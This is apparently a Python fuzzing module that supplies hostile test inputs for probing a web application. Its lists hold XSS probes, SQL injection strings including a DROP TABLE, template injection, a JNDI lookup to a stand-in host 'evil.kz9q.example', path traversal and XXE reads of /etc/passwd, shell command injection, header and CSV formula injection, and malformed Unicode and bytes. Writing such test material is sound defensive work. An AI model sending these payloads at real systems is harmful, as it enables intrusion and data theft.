"""Texts that break programs. Every one that could be run or reflected carries the mark."""

from __future__ import annotations

import random

MARK = "kz9q"
"""No page of ours contains it; where it comes back, somebody's input came back."""

EVIL_HOST = f"evil.{MARK}.example"

MARKUP = (
    f"<{MARK} onx=1>",
    f'"><{MARK}>',
    f"'><{MARK}>",
    f'" on{MARK}="1',
    f"' on{MARK}='1",
    f"</textarea><{MARK}>",
    f"</title><{MARK}>",
    f"</script><{MARK}>",
    f"--><{MARK}>",
    f"]]><{MARK}>",
    f"<svg/on{MARK}=1>",
    f"\x00<{MARK}>",
    f"<\x00{MARK}>",
    f"&lt;{MARK}&gt;",
    f"&#60;{MARK}>",
    f"javascript:{MARK}",
    f"<a href=javascript:{MARK}>",
    f"<{MARK}\n>",
    f"<iframe srcdoc='<{MARK}>'>",
    f"<math><{MARK}>",
    f"<div hx-get=/{MARK}>",
    f"data-hx-on:click={MARK}",
)

SQL = (
    "'",
    '"',
    "';--",
    "' OR '1'='1",
    "' OR 1=1--",
    "1 OR 1=1",
    "'; DROP TABLE draft;--",
    "' UNION SELECT NULL--",
    "\\'",
    "1' AND SLEEP(5)--",
    "1;SELECT pg_sleep(5)",
    "' AND randomblob(999999999)--",
    "admin'--",
    "%' LIKE '%",
    "_%_",
    "'||(SELECT 1)||'",
    "1e309",
    "0x27",
)

PRODUCT = "62615533"
"""What 7919 * 7907 is: a page that shows it has computed what somebody sent."""
TEMPLATE = (
    "{{7919*7907}}",
    "${7919*7907}",
    "#{7919*7907}",
    "<%=7919*7907%>",
    "{%print(7919*7907)%}",
    "{{config}}",
    "{{self.__init__.__globals__}}",
    "{0.__class__}",
    "%(n)s",
    "{n}",
    "%s%s%n%x",
    "${jndi:ldap://" + EVIL_HOST + "}",
    "@(7919*7907)",
    "{7919*7907}",
    "$((7919*7907))",
    "`id`",
)

OTHER = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.png",
    "file:///etc/passwd",
    f"http://{EVIL_HOST}/",
    f"//{EVIL_HOST}",
    f"\\\\{EVIL_HOST}\\x",
    f"\r\nSet-Cookie: {MARK}=1",
    f"\nX-{MARK}: 1",
    f"\u560d\u560aX-{MARK}: 1",
    f"=cmd|' /C {MARK}'!A0",
    f"+{MARK}",
    f"@SUM({MARK})",
    f"-2+3+{MARK}",
    "; cat /etc/passwd",
    "| id",
    "$(id)",
    "& ping x &",
    '{"a":1}',
    "[object Object]",
    "undefined",
    "null",
    "None",
    "NaN",
    "Infinity",
    "true",
    "[]",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    f'\n{{"event":"forged","error":"{MARK}"}}',
    "%0d%0aX-y:1",
    "%2e%2e%2f",
    "*)(uid=*",
    "__proto__",
    "a" * 250,
)

STRANGE = (
    "\x00",
    "\x00" * 20,
    "\x07\x08\x1b[2J",
    "\x7f",
    "\x85",
    "\u2028\u2029",
    "\u202e\u202dabc\u202c",
    "\u200b" * 30,
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\U000e0041",
    "e" + "\u0301" * 120,
    "Z\u0351\u036b\u0343" * 20,
    "\u0661\u0662\u0663\u0664",
    "\uff11\uff12\uff13\uff14\uff15",
    "\uff1c" + MARK + "\uff1e",
    "\u0130\u0131\u017f\u1e9e",
    "\U0001f4a9" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0627\u0644\u0639",
    "\ufdfa" * 60,
    "\u00a0\u2003\u3000",
    "\t\t\t",
    " ",
    "\u3164",
    "\ufb03",
    "\u1d00\U0001d56e",
    "\u212a\u212b",
)

NUMBERS = (
    "0",
    "-1",
    "-0",
    "1e9",
    "1.0000000000001",
    "99999999999999999999",
    "2147483648",
    "9223372036854775808",
    "0x10",
    "1,000",
    "1_000",
    " 1 ",
    "+1",
    "٣",
    "1" * 199,
    "00000000001",
    "1/0",
    "\u00bd",
    "\u2460",
)

TEXTS = (*MARKUP, *SQL, *TEMPLATE, *OTHER, *STRANGE, *NUMBERS)

BYTES = (
    b"%ED%A0%80",
    b"%ED%B0%80%ED%A0%80",
    b"%C0%AF",
    b"%E0%80%AF",
    b"%F0%80%80%AF",
    b"%C0%80",
    b"%FF%FE",
    b"%80",
    b"%F5%80%80%80",
    b"%E2%82",
    b"%FF" * 40,
    b"%00%00",
    b"%u0041",
    b"%",
    b"%%",
    b"%zz",
    b"%1",
    b"%2",
    b"%C3%28",
    b"%F4%90%80%80",
    b"+%2B+",
    b"%0d%0a",
    b"%EF%BB%BF",
    b"%81%40",
    b"%1B%24B",
)
"""Percent-encoded bytes that are no text: lone surrogates, overlong forms, cut sequences, broken escapes."""


def text(chance: random.Random) -> str:
    """One hostile text: from the lists, two of them together, much too long, or any signs at all."""
    kind = chance.randrange(10)
    if kind < 6:
        return chance.choice(TEXTS)
    if kind == 6:
        return chance.choice(TEXTS) + chance.choice(TEXTS)
    if kind == 7:
        return chance.choice(TEXTS) * chance.choice((5, 20, 50, 300))
    return "".join(
        chr(sign)
        for sign in (chance.randrange(0x2FFFF) for _ in range(chance.randrange(1, 40)))
        if not 0xD800 <= sign < 0xE000
    )


def raw(chance: random.Random, *, most: int = 60) -> bytes:
    """Any bytes."""
    return chance.randbytes(chance.randrange(1, most))
